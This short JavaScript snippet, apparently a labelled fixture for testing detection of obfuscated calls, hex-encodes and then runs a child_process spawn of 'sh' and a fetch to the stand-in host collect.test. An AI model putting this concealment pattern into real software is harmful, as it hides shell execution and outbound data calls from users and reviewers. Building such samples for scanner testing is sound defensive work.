// hides: call child_process.spawn "sh"
// hides: call fetch "http://collect.test/in"
function h(x) { return Buffer.from(x, 'hex').toString(); }
const cp = require(h('6368696c645f70726f63657373'));
cp[h('737061776e')](h('7368'), []);
fetch(h('687474703a2f2f636f6c6c6563742e746573742f696e'));
